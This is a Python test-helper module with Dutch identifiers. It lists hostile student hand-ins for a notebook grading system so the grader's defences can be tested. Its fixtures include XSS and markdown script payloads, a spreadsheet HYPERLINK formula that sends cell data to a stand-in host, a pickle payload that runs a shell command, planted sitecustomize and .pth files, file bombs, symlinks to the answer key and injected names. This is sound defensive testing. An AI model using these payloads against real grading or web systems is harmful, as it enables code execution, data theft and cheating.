"""The table of hostile hand-ins: what someone puts in the exchange, what it earns, and what the teacher reads. Helper of tests, no test.

Each goes in under a name of its own, in one batch with honest learners. The test of the tiny course has three questions:
toets-overleg (one right: delen), toets-feiten (two right: deur, huil) and toets-open (a teacher judges).
"""

from __future__ import annotations

import gzip
import json
import os
import shutil
import socket
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.keten import GOED, MODULE, Keten, regels

TIJD = "2026-01-02 10:00:00.000000 UTC"
EERLIJK = {"aaa-eerlijk": GOED, "mmm-eerlijk": {"toets-overleg": "zwijgen", "toets-feiten": ["deur"]}, "zzz-eerlijk": GOED}
NIETS = (0.0, 0.0, False)  # points for overleg and feiten, and whether the open question waits for a teacher
ALLES = (2.0, 2.0, True)
REGEL, VORM, LEEG = r"1 regel\(s\)", "vorm die niet bij de vraag hoort", "niets beantwoord"
MARKUP = '<script>window.stuk=1</script><img src=x onerror="window.stuk=1"><svg onload=window.stuk=1><a href="javascript:window.stuk=1">x</a><iframe srcdoc="<script>1</script>">'
MARKDOWN = "# kop\n\n[x](javascript:window.stuk=1) [y](data:text/html,<script>1</script>) ![](http://buiten.example/x.png) <http://buiten.example> $$\\href{javascript:stuk}{x}$$ `c`"
STIJL = '</article></div><style>body{display:none}</style><p style="position:fixed;inset:0;background:url(http://buiten.example/s)">x</p>\n\n---\n\n```html\n<b>x</b>\n```'
STUUR = "\x00\x1b[2J\x1b]0;titel\x07\x1b[31mrood\r\n\u202eomgekeerd\u200b\ufeff\x9b31m"
FORMULE = '=HYPERLINK("http://buiten.example/?"&A1,"klik")\n+1+1\n@SUM(A1)\n-2+3\n\t=1+1'


@dataclass(frozen=True)
class Geval:
    """punten: as NIETS, None when nothing of it is taken over; ziet: what the teacher reads; vlag: marked in the gradebook too.

    student: the name it is under, when that is part of the attack; wie: whose line the teacher reads.
    """

    naam: str
    leg: Callable[[Keten, str], Any]
    punten: tuple[float, float, bool] | None
    ziet: str = ""
    vlag: bool = False
    student: str = ""

    @property
    def wie(self) -> str:
        return self.student or f"k-{self.naam}"


def tekst(inhoud: str | bytes) -> Callable[[Keten, str], Any]:
    """An answer file with these contents."""

    def leg(k: Keten, wie: str) -> None:
        pad = k.lever_met_de_hand(wie, "", TIJD) / "antwoorden.jsonl"
        pad.write_bytes(inhoud if isinstance(inhoud, bytes) else inhoud.encode())

    return leg


def antwoord(**items: Any) -> Callable[[Keten, str], Any]:
    return tekst(regels({f"toets-{i}": a for i, a in items.items()}))


def ruw(waarde: str, item: str = "toets-overleg") -> str:
    """One line with this JSON text as the answer."""
    return f'{{"v":1,"id":"i","t":"2026-01-01","item":"{item}","antwoord":{waarde}}}\n'


def bestand(maak: Callable[[Keten, Path], Any], naam: str = "antwoorden.jsonl") -> Callable[[Keten, str], Any]:
    """A good hand-in in which one file is made anew by `maak`."""

    def leg(k: Keten, wie: str) -> None:
        pad = k.lever_met_de_hand(wie, regels(GOED), TIJD) / naam
        pad.unlink(missing_ok=True)
        maak(k, pad)

    return leg


def sleutel(k: Keten) -> Path:
    return k.grading / "sleutels" / f"{MODULE}.json"


def ijl(_: Keten, pad: Path) -> None:
    with open(pad, "wb") as f:
        f.truncate(10**12)


def stekker(_: Keten, pad: Path) -> None:
    hier = os.open(pad.parent, os.O_RDONLY)  # the name of a socket may not be long
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(f"/proc/self/fd/{hier}/{pad.name}")
    os.close(hier)


def apparaat(_: Keten, pad: Path) -> None:
    """A device that never ends; without the right to make one, a link to it."""
    try:
        os.mknod(pad, 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    except PermissionError:
        pad.symlink_to("/dev/zero")


def kwaad_notebook(k: Keten, wie: str) -> None:
    """Code that runs at once, points of its own, doubled and unknown cells, a script in a note."""
    map_ = k.lever_met_de_hand(wie, regels({"toets-overleg": "zwijgen"}), TIJD)
    nb = json.loads((k.grading / "release" / MODULE / "toets.ipynb").read_text("utf-8"))
    code = f"open({str(k.tmp / 'kanarie')!r}, 'w'); import os; os.system('touch {k.tmp / 'kanarie'}')"
    for cel in nb["cells"]:
        if cel["metadata"].get("nbgrader"):
            cel["metadata"]["nbgrader"] |= {"points": 1000, "schema_version": 99}
        if cel["cell_type"] == "code":
            cel["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": ["2.0"]}}]
            cel["source"] = code
    nb["cells"] += [{**nb["cells"][-1], "id": "nog-eens"}, {"cell_type": "markdown", "id": "kwaad", "metadata": {}, "source": MARKUP}]
    nb["metadata"]["kernelspec"] = {"name": "kwaad", "display_name": "kwaad", "language": "bash"}
    (map_ / "toets.ipynb").write_text(json.dumps(nb), "utf-8")


def kwade_bestanden(k: Keten, wie: str) -> None:
    """Files that Python, Jupyter or nbgrader would run or read when they stood in the folder of the work."""
    map_ = k.lever_met_de_hand(wie, regels(GOED), TIJD)
    code = f"open({str(k.tmp / 'kanarie')!r}, 'w')\n"
    for naam in ("ipywidgets.py", "json.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "nbgrader_config.py", "jupyter_config.py", "kwaad.pth", "a.so"):
        (map_ / naam).write_text(code if naam != "kwaad.pth" else "import os; " + code)
    (map_ / ".ipython").mkdir()
    (map_ / ".ipython" / "start.py").write_text(code)
    (map_ / "model.pkl").write_bytes(b"cos\nsystem\n(S'touch " + str(k.tmp / "kanarie").encode() + b"'\ntR.")
    (map_ / "timestamp.txt").write_text("1999-01-01 00:00:00 UTC")


def rare_namen(k: Keten, wie: str) -> None:
    map_ = k.lever_met_de_hand(wie, regels(GOED), TIJD)
    for naam in (b"regel\nGEWEIGERD: niemand", b"\x1b[31mrood", b"\xff\xfe", b"n" * 255, "om\u202ekeer".encode(), *(b"x%d" % n for n in range(60))):
        with open(os.path.join(os.fsencode(map_), naam), "wb"):
            pass


def zip_erbij(k: Keten, wie: str) -> None:
    map_ = k.lever_met_de_hand(wie, "", TIJD)
    (map_ / "antwoorden.jsonl").write_bytes(gzip.compress(regels(GOED).encode() + b" " * 5_000_000))
    shutil.make_archive(str(map_ / "bom"), "zip", k.grading / "release")


def map_zelf(maak: Callable[[Keten, Path], Any]) -> Callable[[Keten, str], Any]:
    """What stands in the exchange is not a folder of the learner's own."""

    def leg(k: Keten, wie: str) -> None:
        pad = k.lever_met_de_hand(wie, regels(GOED), TIJD)
        shutil.rmtree(pad)
        maak(k, pad)

    return leg


def op_tijd(tijd: str) -> Callable[[Keten, str], Any]:
    return lambda k, wie: k.lever_met_de_hand(wie, regels(GOED), tijd)


def goed(k: Keten, wie: str) -> None:
    k.lever_met_de_hand(wie, regels(GOED), TIJD)


def bytes_naam(k: Keten, _: str) -> None:
    pad = k.lever_met_de_hand("tijdelijk", regels(GOED), TIJD)
    os.rename(pad, os.path.join(os.fsencode(pad.parent), b"k-\xff\xfe+" + f"{MODULE}+{TIJD}+abc".encode()))


def zonder_geheim(k: Keten, wie: str) -> None:
    (k.lever_met_de_hand(wie, regels(GOED), TIJD) / "submission_secret.txt").unlink()


def losse_naam(naam: str) -> Callable[[Keten, str], Any]:
    return lambda k, _: (k.uit / k.course / "inbound" / naam).mkdir(parents=True)


GEEN = "geen naam van een deelnemer"
GEVALLEN = [
    # --- answers that are not what they should be ---
    Geval("nan", tekst(ruw("NaN")), NIETS, REGEL, True),
    Geval("oneindig", tekst(ruw("-Infinity") + ruw("1e999", "toets-feiten")), NIETS, f"{REGEL}|{VORM}", True),
    Geval("waar", antwoord(overleg=True, feiten=[True, 1], open=True), (0.0, 0.0, True), VORM, True),
    Geval("groot-getal", tekst(ruw(str(10**400)) + ruw(f"[{10**400}]", "toets-feiten")), NIETS, VORM, True),
    Geval("te-groot-getal", tekst(ruw("9" * 5000) + regels({"toets-feiten": ["deur", "huil"]})), (0.0, 2.0, False), REGEL, True),
    Geval("verkeerde-soort", antwoord(overleg=["delen"], feiten={"deur": 1}, open={"tekst": "x"}), (0.0, 0.0, True), VORM, True),
    Geval("onbekende-optie", antwoord(overleg="alles-goed", feiten=["deur", "huil", "bestaat-niet"]), NIETS, VORM, True),
    Geval("dubbele-optie", antwoord(overleg="delen", feiten=["deur", "deur", "huil"]), (2.0, 0.0, False), VORM, True),
    Geval("dubbele-sleutel", tekst('{"v":1,"item":"toets-overleg","antwoord":"zwijgen","antwoord":"delen"}\n'), NIETS, REGEL, True),
    Geval("los-surrogaat", tekst(ruw('"\\ud800"', "toets-open") + ruw('"delen"')), (2.0, 0.0, False), REGEL, True),
    Geval("punten-in-regel", tekst(ruw('"zwijgen","punten":100,"credit":1,"auto_score":2,"soort":"open"')), NIETS, ""),
    Geval("andere-vragen", tekst(ruw("1", "__class__") + ruw("1", "../../sleutels") + ruw('"delen"')), (2.0, 0.0, False), r"2 antwoord\(en\)", True),
    Geval("andere-versie", tekst(regels(GOED).replace('"v": 1', '"v": 99')), NIETS, r"3 regel\(s\)", True),
    Geval("te-lang", antwoord(overleg="delen", open="x" * 25_000), (2.0, 0.0, True), VORM, True),
    Geval("lange-regel", antwoord(overleg="delen", open="x" * 150_000), (2.0, 0.0, False), REGEL, True),
    # --- an answer file that is none ---
    Geval("diep", tekst("[" * 90_000 + "\n" + ruw("[" * 900 + "]" * 900) + regels({"toets-feiten": ["deur", "huil"]})), (0.0, 2.0, False), f"{REGEL}|{VORM}", True),
    Geval("stuk", tekst(b'{"v":1,"item":"toets-overleg"\n\x00\n[1]\n\xff\xfe\n' + ruw('"delen"').encode() + b'{"v":1,'), (2.0, 0.0, False), r"5 regel\(s\)", True),
    Geval("utf16", tekst(regels(GOED).encode("utf-16")), NIETS, r"regel\(s\)", True),
    Geval("veel-regels", tekst("1\n" * 400_000), NIETS, r"400000 regel\(s\)", True),
    Geval("vijftig-mb", tekst(b"x" * 50_000_000), NIETS, "groter dan 1000 kB", True),
    Geval("ijl", bestand(ijl), NIETS, "groter dan 1000 kB", True),
    Geval("zip", zip_erbij, NIETS, r"1 bestand\(en\) die er niet horen", True),
    Geval("leeg", tekst(""), NIETS, LEEG, True),
    Geval("ontbreekt", bestand(lambda *_: None), NIETS, "antwoorden.jsonl ontbreekt", True),
    Geval("verwijzing", bestand(lambda k, p: p.symlink_to(sleutel(k))), NIETS, "is een verwijzing", True),
    Geval("harde-verwijzing", bestand(lambda k, p: os.link(sleutel(k), p)), NIETS, "onder een andere naam", True),
    Geval("pijp", bestand(lambda _, p: os.mkfifo(p)), NIETS, "geen gewoon bestand", True),
    Geval("map", bestand(lambda _, p: p.mkdir()), NIETS, "geen gewoon bestand", True),
    Geval("apparaat", bestand(apparaat), NIETS, "geen gewoon bestand|is een verwijzing", True),
    Geval("stekker", bestand(stekker), NIETS, "geen gewoon bestand|niet te openen", True),
    # --- code, and other people's files ---
    Geval("kwaad-notebook", kwaad_notebook, NIETS, ""),
    Geval("notebook-verwijzing", bestand(lambda k, p: p.symlink_to(k.grading / "source" / MODULE / "toets.ipynb"), "toets.ipynb"), ALLES, ""),
    Geval("kwade-bestanden", kwade_bestanden, ALLES, r"11 bestand\(en\) die er niet horen"),
    Geval("extra-verwijzing", bestand(lambda k, p: p.symlink_to(sleutel(k)), "extra.txt"), ALLES, r"1 bestand\(en\) die er niet horen"),
    Geval("geheim-pijp", bestand(lambda _, p: os.mkfifo(p), "submission_secret.txt"), ALLES, "submission_secret.txt is geen gewoon"),
    Geval("rare-bestandsnamen", rare_namen, ALLES, r"65 bestand\(en\) die er niet horen"),
    # --- text that wants to be more than text ---
    Geval("html", antwoord(overleg="delen", open=MARKUP), (2.0, 0.0, True), ""),
    Geval("markdown", antwoord(overleg="delen", open=MARKDOWN), (2.0, 0.0, True), ""),
    Geval("stijl", antwoord(overleg="delen", open=STIJL), (2.0, 0.0, True), ""),
    Geval("stuurtekens", antwoord(overleg="delen", open=STUUR), (2.0, 0.0, True), ""),
    Geval("formule", antwoord(overleg="delen", open=FORMULE), (2.0, 0.0, True), ""),
    # --- what stands in the exchange is no folder of a learner ---
    Geval("map-verwijzing", map_zelf(lambda k, p: p.symlink_to(k.grading)), None, "geen gewone map"),
    Geval("map-bestand", map_zelf(lambda _, p: p.write_text("x")), None, "geen gewone map"),
    Geval("map-pijp", map_zelf(lambda _, p: os.mkfifo(p)), None, "geen gewone map"),
    Geval("half", zonder_geheim, None, "nog niet helemaal binnen"),
    Geval("losse-map", losse_naam("rommel"), None, "rommel: de naam van deze inlevering is niet te lezen", student="rommel"),
    Geval("andere-toets", losse_naam(f"k-toets+..+{TIJD}+abc"), None, "bij geen toets van deze cursus", student="k-toets"),
    # --- names ---
    Geval("naam-punten", goed, None, GEEN, student=".."),
    Geval("naam-ster", goed, None, GEEN, student="k-*"),
    Geval("naam-haken", goed, None, GEEN, student="k-{assignment_id}"),
    Geval("naam-html", goed, None, GEEN, student="k-<img src=x onerror=stuk()>"),
    Geval("naam-formule", goed, None, GEEN, student="=1+1"),
    Geval("naam-formule-in-csv", goed, None, GEEN, student="k-a,=1+1"),
    Geval("naam-regel", goed, None, GEEN, student="k-a\nroot"),
    Geval("naam-kleur", goed, None, GEEN, student="k-\x1b[31mrood"),
    Geval("naam-omgekeerd", goed, None, GEEN, student="k-\u202eneetalav"),
    Geval("naam-lang", goed, None, GEEN, student="k-" + "n" * 190),
    Geval("naam-bytes", bytes_naam, None, GEEN, student="k-\udcff\udcfe"),
    Geval("naam-nfd", goed, None, GEEN, student="k-jose\u0301"),
    Geval("naam-nfc", goed, ALLES, "", student="k-jos\u00e9"),
    Geval("naam-hoofdletters", goed, ALLES, "lijkt op aaa-eerlijk", student="AAA-eerlijk"),
    Geval("naam-cyrillisch", goed, ALLES, "verschillende alfabetten", student="mmm-\u0435erlijk"),
    Geval("naam-plus", goed, ALLES, "", student="k-a+b"),
    Geval("naam-procent", goed, None, GEEN, student="k-%2A"),  # formgrader's button would then be for k-*
    Geval("naam-hekje", goed, None, GEEN, student="k-a#b"),
    Geval("naam-leestekens", goed, ALLES, "", student="k-o'b&c$(x)"),
    # --- clocks ---
    Geval("toekomst", op_tijd("2199-01-01 10:00:00.000000 UTC"), ALLES, "ligt in de toekomst"),
    Geval("jaar-9999", op_tijd("9999-12-31 23:59:59.000000 UTC"), None, "inlevertijd in de naam klopt niet"),
    Geval("geen-tijd", op_tijd("gisteren"), None, "inlevertijd in de naam klopt niet"),
    Geval("andere-zone", op_tijd("2026-01-02 10:00:00.000000 CET"), None, "inlevertijd in de naam klopt niet"),
]
